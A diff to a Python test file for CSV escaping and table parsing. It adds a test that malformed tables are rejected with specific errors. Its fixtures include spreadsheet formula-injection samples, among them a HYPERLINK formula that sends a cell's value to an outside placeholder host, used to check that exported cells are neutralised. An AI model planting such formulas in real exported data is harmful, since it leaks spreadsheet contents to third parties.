@@ -5,7 +5,7 @@ import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
-from proxies.tables import csv_text, read_cells
+from proxies.tables import csv_text, read_cells, read_table
 
 FORMULAS = (
     '=HYPERLINK("http://a.b/?"&A1,"x")', "x\r=1",
@@ -39,3 +39,23 @@ def test_numbers_and_other_texts_stay(number: object) -> None:
 @example(["'=1", "''=1", "'", "'a", "=1"])
 def test_cells_are_read_as_they_were(cells: list[str]) -> None:
     assert read_cells(rows_of(csv_text([cells, ["x"]]))[0]) == cells
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        ("", "not a table of nets: its columns are"),
+        ("name,a\n", "not a table of nets: its columns are"),
+        ("name,a,end\nx,1\n", "line 2: 2 cells under a header of 3"),
+        ("name,a,end\nx,1,0\nx,y,0\n", "line 3: could not convert string to float: 'y'"),
+    ],
+)
+def test_tables_are_read_or_refused(text: str, message: str) -> None:
+    def read(header: list[str], cells: list[str]) -> tuple[str, float]:
+        assert header == ["name", "a", "end"]
+        return cells[0], float(cells[1])
+
+    with pytest.raises(ValueError, match=message):
+        read_table(text, "nets", ["name"], ["end"], read)
+    whole = csv_text([["name", "a", "end"], ["=x", 0.5, ""]])
+    assert read_table(whole, "nets", ["name"], ["end"], read) == (["a"], [("=x", 0.5)])
